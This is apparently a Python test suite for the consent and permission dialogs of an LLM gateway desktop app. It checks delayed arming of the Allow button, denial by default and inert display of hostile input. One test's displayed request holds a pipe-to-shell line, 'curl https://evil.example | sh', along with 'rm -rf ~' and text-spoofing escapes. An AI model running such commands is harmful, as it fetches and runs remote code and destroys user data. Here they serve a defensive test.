"""The rules of every dialog that asks a person: denying is easy, allowing takes a look."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import pairwise
from pathlib import Path
from unittest.mock import patch

import pytest
from PySide6.QtCore import QEvent, QPoint, QSettings, Qt, QTimer
from PySide6.QtGui import QAccessible
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QAbstractButton, QApplication, QLabel, QMenu, QWidget
from pytestqt.qtbot import QtBot
from shiboken6 import isValid

from llmgw_desktop.app.questions.rules import NOT_THIS, RuleOffer
from llmgw_desktop.domain.access.consent import ConsentTerm
from llmgw_desktop.domain.access.principal import SCOPE_WORDS, Scope
from llmgw_desktop.domain.errors import ConfigError
from llmgw_desktop.domain.jobs.approval import Decision
from llmgw_desktop.ui.bridge import Bridge
from llmgw_desktop.ui.questions import arming
from llmgw_desktop.ui.questions.arming import Arming, Hands, arm_after_ms, keep_arm_after_ms
from llmgw_desktop.ui.questions.consent_dialog import ConsentDialog
from llmgw_desktop.ui.questions.permission_dialog import PermissionDialog
from llmgw_desktop.ui.theme import Appearance, Theme
from tests.support.plain_questions import (
    NOW_S,
    call_permission,
    consent,
    edit_permission,
    hostile_consent,
    hostile_permission,
    permission,
    tool_permission,
)
from tests.ui.test_accessible_names import nameless

Dialog = ConsentDialog | PermissionDialog


class Scene:
    """One dialog with what it answered; the delay is short enough for a test."""

    def __init__(self, dialog: Dialog) -> None:
        self.dialog = dialog
        self.answers: list[object] = []
        if isinstance(dialog, ConsentDialog):
            dialog.denied.connect(lambda: self.answers.append("denied"))
            dialog.allowed.connect(lambda scopes, term: self.answers.append((scopes, term)))
        else:
            dialog.decided.connect(self._decided)

    def _decided(self, decision: Decision, note: str) -> None:
        said = "denied" if decision is Decision.DENY else decision
        self.answers.append((said, note) if note else said)

    @property
    def allow(self) -> QAbstractButton:
        dialog = self.dialog
        return dialog.allow if isinstance(dialog, ConsentDialog) else dialog.once


@pytest.fixture(params=["consent", "permission"])
def scene(
    request: pytest.FixtureRequest,
    theme: Theme,
    bridge: Bridge,
    settings: QSettings,
    qtbot: QtBot,
) -> Iterator[Scene]:
    dialog: Dialog
    if request.param == "consent":
        dialog = ConsentDialog(theme, consent(), settings, lambda: NOW_S)
    else:
        dialog = PermissionDialog(
            theme, permission(), settings=settings, now_s=lambda: NOW_S, bridge=bridge
        )
    made = Scene(dialog)
    yield made
    if isValid(dialog):
        dialog.dismiss()


@pytest.fixture
def settings(tmp_path: Path) -> QSettings:
    return QSettings(str(tmp_path / "window.ini"), QSettings.Format.IniFormat)


def look_at(scene: Scene, qtbot: QtBot) -> None:
    """The person turns to it."""
    scene.dialog.show()
    scene.dialog.activateWindow()
    qtbot.waitUntil(scene.dialog.isActiveWindow)


def arm(scene: Scene, qtbot: QtBot) -> None:
    look_at(scene, qtbot)
    qtbot.waitUntil(lambda: scene.dialog.arming.is_armed)


def test_an_early_click_does_nothing(scene: Scene, qtbot: QtBot) -> None:
    look_at(scene, qtbot)
    assert not scene.allow.isEnabled()
    QTest.mouseClick(scene.allow, Qt.MouseButton.LeftButton)
    scene.allow.click()
    assert scene.answers == []
    assert scene.dialog.isVisible()


def test_it_is_armed_after_the_delay_and_then_allows_once(scene: Scene, qtbot: QtBot) -> None:
    assert scene.dialog.arming.delay_ms == 1500
    arm(scene, qtbot)
    assert scene.allow.isEnabled()
    QTest.mouseClick(scene.allow, Qt.MouseButton.LeftButton)
    assert len(scene.answers) == 1
    assert scene.answers != ["denied"]
    assert not scene.dialog.isVisible()


class TurnedTimer:
    """In the place of the arming's own: it runs only where a test turns it."""

    def __init__(self, real: QTimer) -> None:
        self._real = real
        self._left_ms: int | None = None

    def start(self) -> None:
        self._left_ms = self._real.interval()

    def stop(self) -> None:
        self._left_ms = None

    def turn(self, by_ms: int) -> None:
        if self._left_ms is not None:
            self._left_ms -= by_ms
            if self._left_ms <= 0:
                self._left_ms = None
                self._real.timeout.emit()


class Robot:
    """Clicks and types at the window, as the system brings it, without looking."""

    def __init__(self, scene: Scene) -> None:
        dialog, self._window = scene.dialog, scene.dialog.windowHandle()
        self.now_ms = 0.0
        self.pauses = [900, 40, 700, 300, 10, 500, 0]
        self.timer = TurnedTimer(dialog.arming._timer)
        dialog._hands = Hands(lambda: self.now_ms)
        self.allow = scene.allow.mapTo(dialog, scene.allow.rect().center())
        self.heading = dialog.heading.mapTo(dialog, dialog.heading.rect().center())
        dialog._hands.rest(dialog.mapToGlobal(self.allow))  # it came up under the pointer
        self._left, self._is_gone = Qt.MouseButton.LeftButton, lambda: bool(scene.answers)

    def wait(self, for_ms: int) -> None:
        self.now_ms += for_ms
        self.timer.turn(for_ms)

    def move(self, place: QPoint) -> None:
        """As a hand that is about to click does."""
        QTest.mouseMove(self._window, place + QPoint(1, 1))

    def click(self, place: QPoint) -> None:
        if not self._is_gone():
            QTest.mouseClick(self._window, self._left, pos=place)

    def double_click(self, place: QPoint) -> None:
        QTest.mouseDClick(self._window, self._left, pos=place)

    def drag(self, wait_ms: int) -> None:
        """Down on Allow, and let go there later."""
        QTest.mousePress(self._window, self._left, pos=self.allow)
        self.wait(wait_ms)
        QTest.mouseRelease(self._window, self._left, pos=self.allow)

    def type(self, *keys: Qt.Key) -> None:
        for key in keys:
            if not self._is_gone():
                QTest.keyClick(self._window, key)

    def hold(self, key: Qt.Key) -> None:
        """As a keyboard repeats it: it goes down again and again, and never up."""
        if not self._is_gone():
            QTest.keyPress(self._window, key)


_RHYTHMS: dict[str, tuple[int, Callable[[Robot], object]]] = {
    "clicks": (120, lambda robot: robot.click(robot.allow)),
    "slow clicks": (1400, lambda robot: robot.click(robot.allow)),
    "double clicks": (600, lambda robot: robot.double_click(robot.allow)),
    "long clicks": (700, lambda robot: robot.drag(1400)),
    "clicks elsewhere, then there": (
        120,
        lambda robot: [
            robot.click(robot.heading),
            robot.wait(1000),
            robot.click(robot.allow),
        ],
    ),
    "typing, then a click": (
        900,
        lambda robot: [
            robot.type(Qt.Key.Key_L, Qt.Key.Key_S),
            robot.wait(900),
            robot.click(robot.allow),
        ],
    ),
    "Tab held, then a click": (
        900,
        lambda robot: [
            *(robot.hold(Qt.Key.Key_Tab) for _ in range(7)),
            robot.wait(900),
            robot.click(robot.allow),
        ],
    ),
    "Enter held": (30, lambda robot: robot.hold(Qt.Key.Key_Return)),
    "clicks slower than the delay": (1600, lambda robot: robot.click(robot.allow)),
    "clicks at half the pace": (3000, lambda robot: robot.click(robot.allow)),
    "clicks with an unsteady pause": (
        1700,
        lambda robot: [robot.wait(robot.pauses.pop()), robot.click(robot.allow)],
    ),
}


def robot_at(scene: Scene, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch) -> Robot:
    look_at(scene, qtbot)
    robot = Robot(scene)
    monkeypatch.setattr(scene.dialog.arming, "_timer", robot.timer)
    scene.dialog.arming.begin_again()
    return robot


@pytest.mark.parametrize("way", _RHYTHMS)
def test_no_rhythm_allows_be_it_quick_or_slow(
    scene: Scene, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch, way: str
) -> None:
    robot = robot_at(scene, qtbot, monkeypatch)
    every_ms, act = _RHYTHMS[way]
    for _ in range(10_000 // every_ms):
        robot.wait(every_ms)
        act(robot)
    assert scene.answers == (["denied"] if way == "Enter held" else [])
    if not scene.answers:
        robot.wait(2300)
        robot.move(robot.allow)
        robot.click(robot.allow)
        assert len(scene.answers) == 1, "who waits and looks may still allow"
        assert scene.answers != ["denied"]


def test_who_presses_where_the_pointer_lies_is_told_to_move_it(
    scene: Scene, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As the label says: «click here», and then the same once more."""
    robot = robot_at(scene, qtbot, monkeypatch)
    robot.click(robot.allow)
    robot.wait(2000)
    robot.click(robot.allow)
    assert scene.answers == []
    assert scene.dialog.expiry.text() == "Move the pointer, then press."
    robot.wait(2000)
    robot.move(robot.allow)
    assert scene.dialog.expiry.text().startswith("Question expires in ")
    robot.click(robot.allow)
    assert len(scene.answers) == 1
    assert scene.answers != ["denied"]


@pytest.mark.parametrize("every_ms", [1600, 2000, 5000])
def test_a_slow_rhythm_from_place_to_place_allows_no_more_once_it_is_one(
    scene: Scene, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch, every_ms: int
) -> None:
    robot = robot_at(scene, qtbot, monkeypatch)
    for _ in range(5):
        robot.wait(every_ms)
        robot.click(robot.heading)
    for _ in range(5):
        robot.wait(every_ms)
        robot.click(robot.allow)
    assert scene.answers == []


def test_who_clicks_too_early_reads_and_clicks_again_is_not_hindered(
    scene: Scene, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    robot = robot_at(scene, qtbot, monkeypatch)
    for wait_ms in (400, 350, 500):
        robot.wait(wait_ms)
        robot.click(robot.heading)
    robot.wait(1500)
    robot.move(robot.allow)
    robot.click(robot.allow)
    assert len(scene.answers) == 1
    assert scene.answers != ["denied"]


def test_an_open_menu_takes_its_clicks_and_so_no_time_counts_meanwhile(
    scene: Scene, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    robot = robot_at(scene, qtbot, monkeypatch)
    menu = QMenu(scene.dialog)
    menu.addAction("Copy")
    menu.popup(scene.dialog.mapToGlobal(robot.heading))
    robot.wait(1500)
    assert not scene.allow.isEnabled()
    menu.close()
    robot.wait(1499)
    assert not scene.allow.isEnabled()
    robot.wait(1)
    assert scene.allow.isEnabled()


@pytest.mark.parametrize("key", [Qt.Key.Key_Return, Qt.Key.Key_Enter, Qt.Key.Key_Escape])
@pytest.mark.parametrize("is_armed", [False, True])
def test_enter_and_escape_deny(scene: Scene, qtbot: QtBot, key: Qt.Key, is_armed: bool) -> None:
    (arm if is_armed else look_at)(scene, qtbot)
    QTest.keyClick(scene.dialog, key)
    assert scene.answers == ["denied"]
    assert not scene.dialog.isVisible()


def test_space_denies_for_deny_has_the_first_focus(scene: Scene, qtbot: QtBot) -> None:
    arm(scene, qtbot)
    assert QApplication.focusWidget() is scene.dialog.deny
    QTest.keyClick(scene.dialog.deny, Qt.Key.Key_Space)
    assert scene.answers == ["denied"]


def test_closing_denies(scene: Scene, qtbot: QtBot) -> None:
    arm(scene, qtbot)
    scene.dialog.close()
    assert scene.answers == ["denied"]


def test_what_is_dismissed_is_not_answered(scene: Scene, qtbot: QtBot) -> None:
    arm(scene, qtbot)
    scene.dialog.dismiss()
    assert scene.answers == []
    assert not scene.dialog.isVisible()


def test_losing_the_front_disarms_and_starts_again(
    scene: Scene, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    arm(scene, qtbot)
    QApplication.sendEvent(scene.dialog, QEvent(QEvent.Type.WindowDeactivate))
    assert not scene.allow.isEnabled()
    qtbot.wait(1700)
    assert not scene.allow.isEnabled(), "it is not in front"
    QApplication.sendEvent(scene.dialog, QEvent(QEvent.Type.WindowActivate))
    assert not scene.allow.isEnabled(), "from the beginning"
    qtbot.waitUntil(scene.allow.isEnabled)


def test_moving_it_under_the_pointer_starts_again(scene: Scene, qtbot: QtBot) -> None:
    arm(scene, qtbot)
    scene.dialog.move(scene.dialog.pos() + QPoint(30, 30))
    qtbot.waitUntil(lambda: not scene.allow.isEnabled())
    qtbot.waitUntil(scene.allow.isEnabled)
    scene.dialog.resize(scene.dialog.width() + 40, scene.dialog.height())
    qtbot.waitUntil(lambda: not scene.allow.isEnabled())


def test_it_comes_up_without_the_keyboard(scene: Scene, qtbot: QtBot) -> None:
    """What a window manager makes of it: test_armed_dialog_on_a_screen.py."""
    assert scene.dialog.testAttribute(Qt.WidgetAttribute.WA_ShowWithoutActivating)
    scene.dialog.bring_forward()
    assert not scene.dialog.testAttribute(Qt.WidgetAttribute.WA_ShowWithoutActivating)


def test_it_is_no_modal_window_stays_on_top_and_is_ours(scene: Scene) -> None:
    dialog = scene.dialog
    assert not dialog.isModal()
    assert dialog.parentWidget() is None
    assert dialog.windowFlags() & Qt.WindowType.WindowStaysOnTopHint
    assert dialog.windowTitle() in (
        "A program wants to use LLM Gateway",
        "An agent asks for permission",
    )
    assert dialog.windowIcon().cacheKey() == QApplication.windowIcon().cacheKey()


def test_no_button_that_allows_is_a_default_or_has_a_letter(scene: Scene) -> None:
    armed = [button for button, _ in scene.dialog._armed_buttons]
    assert armed
    for button in armed:
        assert not button.isDefault()
        assert not button.autoDefault()
        assert "&" not in button.text()
        assert button.shortcut().isEmpty()
    assert scene.dialog.deny.isDefault()


def test_time_is_told_only_while_it_is_in_sight(scene: Scene, qtbot: QtBot) -> None:
    assert not scene.dialog._tick.isActive()
    scene.dialog.show()
    assert scene.dialog._tick.isActive()
    assert scene.dialog._tick.interval() == 1000
    scene.dialog.hide()
    assert not scene.dialog._tick.isActive()


def test_it_says_when_it_expires(scene: Scene) -> None:
    word, end = (
        ("1:58", "refused") if isinstance(scene.dialog, ConsentDialog) else ("4:48", "denied")
    )
    assert scene.dialog.expiry.text() == f"Question expires in {word} and is then {end}."


def test_it_says_that_the_while_begins_with_a_click(scene: Scene, qtbot: QtBot) -> None:
    scene.dialog.show()
    QApplication.sendEvent(scene.dialog, QEvent(QEvent.Type.WindowDeactivate))
    assert scene.allow.text().endswith(" (click here)")
    QApplication.sendEvent(scene.dialog, QEvent(QEvent.Type.WindowActivate))
    assert scene.allow.text().endswith(" (1.5 s)")


def test_what_does_not_fit_is_read_to_its_end_first(scene: Scene, qtbot: QtBot) -> None:
    arm(scene, qtbot)
    dialog = scene.dialog
    dialog.resize(dialog.width(), 230)
    bar = dialog._scroll.verticalScrollBar()
    qtbot.waitUntil(lambda: bar.maximum() > 0)
    qtbot.wait(1700)
    assert not scene.allow.isEnabled()
    assert scene.allow.text().endswith("(scroll)")
    bar.setValue(bar.maximum())
    qtbot.waitUntil(scene.allow.isEnabled)


def test_all_questions_leaves_it_waiting(scene: Scene, qtbot: QtBot) -> None:
    look_at(scene, qtbot)
    with qtbot.waitSignal(scene.dialog.list_wanted):
        scene.dialog.everything.click()
    assert scene.answers == []


@pytest.mark.parametrize("appearance", [Appearance.LIGHT, Appearance.DARK])
def test_everything_is_plain_text_and_named(
    scene: Scene, theme: Theme, appearance: Appearance, qtbot: QtBot
) -> None:
    theme.set_appearance(appearance)
    scene.dialog.show()
    labels = scene.dialog.findChildren(QLabel)
    assert labels
    assert all(each.textFormat() is Qt.TextFormat.PlainText for each in labels)
    assert nameless(scene.dialog) == []
    assert QAccessible.queryAccessibleInterface(scene.dialog) is not None


@pytest.mark.parametrize(("chosen", "holds"), [(0, 1500), (3000, 3000), (99_000, 10_000)])
def test_the_delay_can_be_lengthened_and_not_removed(
    settings: QSettings, chosen: int, holds: int
) -> None:
    keep_arm_after_ms(settings, chosen)
    assert arm_after_ms(settings) == holds


@pytest.mark.parametrize("spoilt", ["-5", "soon", "", "0"])
def test_a_spoilt_setting_is_the_least(
    settings: QSettings, spoilt: str, qapp: QApplication
) -> None:
    settings.setValue("questions/arm-after-ms", spoilt)
    assert arm_after_ms(settings) == arming.LEAST_MS
    assert Arming(1, qapp).delay_ms == arming.LEAST_MS


def test_scopes_start_as_they_are_risky_and_only_the_ticked_are_given(
    theme: Theme, settings: QSettings, qtbot: QtBot
) -> None:
    dialog = ConsentDialog(theme, consent(), settings, lambda: NOW_S)
    scene = Scene(dialog)
    assert dialog.chosen == (Scope.MODELS_USE, Scope.MODELS_LIST)
    assert list(dialog.ticks) == list(consent().scopes)
    assert dialog.term is ConsentTerm.EIGHT_HOURS
    arm(scene, qtbot)
    dialog.ticks[Scope.JOBS_RUN].click()
    dialog.ticks[Scope.MODELS_LIST].click()
    dialog.terms[ConsentTerm.PROGRAM].click()
    dialog.allow.click()
    assert scene.answers == [
        ((Scope.MODELS_USE, Scope.JOBS_RUN), ConsentTerm.PROGRAM),
    ]


def test_with_nothing_ticked_it_cannot_be_allowed(
    theme: Theme, settings: QSettings, qtbot: QtBot
) -> None:
    asked = consent(scopes=(Scope.ADMIN, Scope.VAULT_ADMIN))
    dialog = ConsentDialog(theme, asked, settings, lambda: NOW_S)
    scene = Scene(dialog)
    arm(scene, qtbot)
    assert not dialog.allow.isEnabled()
    dialog.ticks[Scope.ADMIN].click()
    assert dialog.allow.isEnabled()
    dialog.ticks[Scope.ADMIN].click()
    assert not dialog.allow.isEnabled()
    dialog.dismiss()


def test_an_unknown_program_is_offered_eight_hours_alone(theme: Theme, settings: QSettings) -> None:
    asked = consent(peer=None, terms=(ConsentTerm.EIGHT_HOURS,))
    dialog = ConsentDialog(theme, asked, settings, lambda: NOW_S)
    assert list(dialog.terms) == [ConsentTerm.EIGHT_HOURS]
    assert dialog.seen.text() == "seen as  unknown program"
    dialog.dismiss()


def test_the_words_of_the_browser_stand_in_it(theme: Theme, settings: QSettings) -> None:
    dialog = ConsentDialog(theme, consent(), settings, lambda: NOW_S)
    assert dialog.words.text() == "amber otter"
    assert dialog.origin.text() == "http://127.0.0.1:33418"
    assert dialog.place.text() == "this computer, port 33418"
    dialog.dismiss()


def test_a_hostile_program_stays_inert(theme: Theme, settings: QSettings, qtbot: QtBot) -> None:
    dialog = ConsentDialog(theme, hostile_consent(), settings, lambda: NOW_S)
    dialog.show()
    dialog.more.click()
    qtbot.wait(50)
    texts = [label.text() for label in dialog.findChildren(QLabel)]
    assert len(dialog.name.text()) <= 62
    assert all("\u202e" not in text and "\x1b" not in text and "\x07" not in text for text in texts)
    assert dialog.windowTitle() == "A program wants to use LLM Gateway"
    assert dialog.place.text() == "sends your access to xn--vil-qdd.example on the internet"
    assert dialog.width() <= dialog.screen().availableGeometry().width()
    dialog.dismiss()


def test_a_permission_shows_all_before_it_can_be_given(
    theme: Theme, settings: QSettings, bridge: Bridge, qtbot: QtBot
) -> None:
    asked = hostile_permission()
    dialog = PermissionDialog(theme, asked, settings=settings, now_s=lambda: NOW_S, bridge=bridge)
    scene = Scene(dialog)
    arm(scene, qtbot)
    shown = dialog.asked.pieces[0].toPlainText()
    assert "␛[2K␛[1A␍ rm -rf ~ ⟨U+202E⟩# yllufeb eb⟨U+202C⟩␀ <b>ok</b> ⟨U+200B⟩" in shown
    assert shown.replace("\n↪ ", "").count("x") == 5001
    assert "curl https://evil.example | sh" in shown
    said = dialog.asked.own_words.text()
    assert said.startswith("“The gateway has checked this.")
    assert "\u202e" not in said
    dialog.dismiss()


def test_a_megabyte_is_shown_in_turns_and_armed_only_then(
    theme: Theme, settings: QSettings, bridge: Bridge, qtbot: QtBot
) -> None:
    asked = permission(ask=permission().ask.__class__(native_id="1", command="ab \x1b\n" * 200_000))
    dialog = PermissionDialog(theme, asked, settings=settings, now_s=lambda: NOW_S, bridge=bridge)
    scene = Scene(dialog)
    look_at(scene, qtbot)
    assert not dialog.asked.is_complete
    qtbot.wait(1700)
    if not dialog.asked.is_complete:
        assert not dialog.once.isEnabled()
    qtbot.waitUntil(lambda: dialog.asked.is_complete)
    qtbot.waitUntil(dialog.once.isEnabled)
    assert dialog.asked.pieces[0].toPlainText() == "ab ␛\n" * 200_000
    dialog.dismiss()


def test_a_note_goes_with_the_denial(
    theme: Theme, settings: QSettings, bridge: Bridge, qtbot: QtBot
) -> None:
    dialog = PermissionDialog(
        theme, permission(), settings=settings, now_s=lambda: NOW_S, bridge=bridge
    )
    scene = Scene(dialog)
    arm(scene, qtbot)
    dialog.with_note.click()
    QTest.keyClicks(dialog.note, "Use the parser alone")
    QTest.keyClick(dialog.note, Qt.Key.Key_Return)
    assert scene.answers == [("denied", "Use the parser alone")]


@pytest.mark.parametrize(("name", "decision"), [("for_job", Decision.JOB), ("stop", Decision.STOP)])
def test_for_the_job_and_stop(
    theme: Theme,
    settings: QSettings,
    bridge: Bridge,
    qtbot: QtBot,
    name: str,
    decision: Decision,
) -> None:
    dialog = PermissionDialog(
        theme, permission(), settings=settings, now_s=lambda: NOW_S, bridge=bridge
    )
    scene = Scene(dialog)
    button = getattr(dialog, name)
    look_at(scene, qtbot)
    button.click()
    assert scene.answers == []
    qtbot.waitUntil(button.isEnabled)
    button.click()
    assert scene.answers == [decision]


def test_without_a_rule_the_job_is_not_offered(
    theme: Theme, settings: QSettings, bridge: Bridge
) -> None:
    dialog = PermissionDialog(
        theme, edit_permission(), settings=settings, now_s=lambda: NOW_S, bridge=bridge
    )
    assert dialog.for_job.isHidden()
    assert not dialog.once.isHidden()
    assert "leads outside its workspace" in " ".join(
        label.text() for label in dialog.findChildren(QLabel)
    )
    dialog.dismiss()


def test_a_diff_and_arguments_are_shown_in_full(
    theme: Theme, settings: QSettings, bridge: Bridge
) -> None:
    edit = PermissionDialog(
        theme, edit_permission(), settings=settings, now_s=lambda: NOW_S, bridge=bridge
    )
    shown = edit.asked.pieces[0].toPlainText()
    assert "-    return text.split()" in shown
    assert "+    return text.split(',')" in shown
    assert "▸ /home/ada/src/app/tests/test_parser.py  (new, or all of it anew)" in shown
    tool = PermissionDialog(
        theme, tool_permission(), settings=settings, now_s=lambda: NOW_S, bridge=bridge
    )
    assert '"title": "Nightly <b>fails</b>"' in tool.asked.pieces[0].toPlainText()
    for dialog in (edit, tool):
        dialog.dismiss()


def test_a_call_of_a_tool_names_the_client_and_no_job(
    theme: Theme, settings: QSettings, bridge: Bridge
) -> None:
    dialog = PermissionDialog(
        theme, call_permission(), settings=settings, now_s=lambda: NOW_S, bridge=bridge
    )
    assert dialog.heading.text() == "claude-code wants to use a tool of an MCP server"
    assert dialog.for_job.text().startswith("Allow for this session")
    assert dialog.stop.isHidden()
    assert dialog.job.isHidden()
    assert '"path": "/work/shop/old.csv"' in dialog.asked.pieces[0].toPlainText()
    dialog.dismiss()


def test_tab_goes_as_the_buttons_stand(
    theme: Theme, settings: QSettings, bridge: Bridge, qtbot: QtBot
) -> None:
    dialog = PermissionDialog(
        theme, permission(), settings=settings, now_s=lambda: NOW_S, bridge=bridge
    )
    dialog.show()
    for button in (dialog.once, dialog.for_job, dialog.stop):
        button.setEnabled(True)
    reached = [dialog.job]
    while len(reached) < 7:
        follower = reached[-1].nextInFocusChain()
        while not isinstance(follower, QAbstractButton) or follower.isHidden():
            follower = follower.nextInFocusChain()
        reached.append(follower)
    assert [each.accessibleName() or each.text() for each in reached] == [
        each.accessibleName() or each.text()
        for each in (
            dialog.job,
            dialog.everything,
            dialog.deny,
            dialog.with_note,
            dialog.once,
            dialog.for_job,
            dialog.stop,
        )
    ]
    dialog.dismiss()


@pytest.mark.parametrize("kind", ["consent", "permission"])
def test_a_dialog_that_nobody_waits_for_is_made_step_by_step(
    theme: Theme, settings: QSettings, bridge: Bridge, qtbot: QtBot, kind: str
) -> None:
    def made(*, at_once: bool) -> Dialog:
        if kind == "consent":
            return ConsentDialog(theme, consent(), settings, lambda: NOW_S, at_once=at_once)
        return PermissionDialog(
            theme,
            permission(),
            settings=settings,
            now_s=lambda: NOW_S,
            bridge=bridge,
            at_once=at_once,
        )

    whole, dialog = made(at_once=True), made(at_once=False)
    counts = [len(dialog.findChildren(QWidget))]
    while dialog.make_on():
        counts.append(len(dialog.findChildren(QWidget)))
    counts.append(len(dialog.findChildren(QWidget)))
    most = max(after - before for before, after in pairwise(counts))
    assert len(counts) >= 6
    assert most < counts[-1] / 2, counts
    assert counts[-1] == len(whole.findChildren(QWidget))
    assert dialog.size() == whole.size()
    hurried = made(at_once=False)
    hurried.show()
    assert len(hurried.findChildren(QWidget)) >= counts[-1]
    for each in (whole, dialog, hurried):
        each.dismiss()


def test_a_lasting_rule_is_seen_and_changed_before_it_is_made(
    theme: Theme, settings: QSettings, bridge: Bridge, qtbot: QtBot
) -> None:
    dialog = PermissionDialog(
        theme, permission(), settings=settings, now_s=lambda: NOW_S, bridge=bridge
    )

    def told(offer: RuleOffer) -> str:
        if offer.pattern == "'":
            raise ConfigError("expected a command whose quotes end", file="the rule")
        return f"{offer.pattern} would have allowed 3." if "git" in offer.pattern else NOT_THIS

    dialog.offer_rule(RuleOffer(key="commands", pattern="git *", where="everywhere"), told)
    made: list[RuleOffer] = []
    dialog.always_wanted.connect(made.append)
    arm(Scene(dialog), qtbot)
    assert not dialog.pattern.isVisible()
    dialog.always_more.click()
    assert dialog.pattern.text() == "git *"
    qtbot.waitUntil(lambda: dialog.pattern_words.text() == "git * would have allowed 3.")
    for text, words in (("'", "the rule: expected a command whose quotes end"), ("ls", NOT_THIS)):
        dialog.pattern.clear()
        qtbot.keyClicks(dialog.pattern, text)
        qtbot.waitUntil(lambda words=words: dialog.pattern_words.text() == words)  # type: ignore[misc]
        qtbot.waitUntil(dialog.always.isEnabled)
        dialog.always.click()
        assert not made
    dialog.pattern.clear()
    qtbot.keyClicks(dialog.pattern, "git log *")
    qtbot.waitUntil(lambda: dialog.pattern_words.text() == "git log * would have allowed 3.")
    qtbot.waitUntil(dialog.always.isEnabled)
    dialog.always.click()
    assert [each.pattern for each in made] == ["git log *"]


def test_no_right_is_cut_off_however_long_its_words_are(theme: Theme, settings: QSettings) -> None:
    """Another language may need more room than ours."""
    words = (
        "run each and every program of each and every vendor on this computer, with your sign-ins"
    )
    with patch.dict(SCOPE_WORDS, dict.fromkeys(SCOPE_WORDS, words)):
        dialog = ConsentDialog(theme, hostile_consent(), settings, lambda: NOW_S)
    dialog.show()
    for tick in dialog.ticks.values():
        right = tick.mapTo(dialog, QPoint(tick.sizeHint().width(), 0)).x()
        assert right <= dialog.width()
    dialog.close()
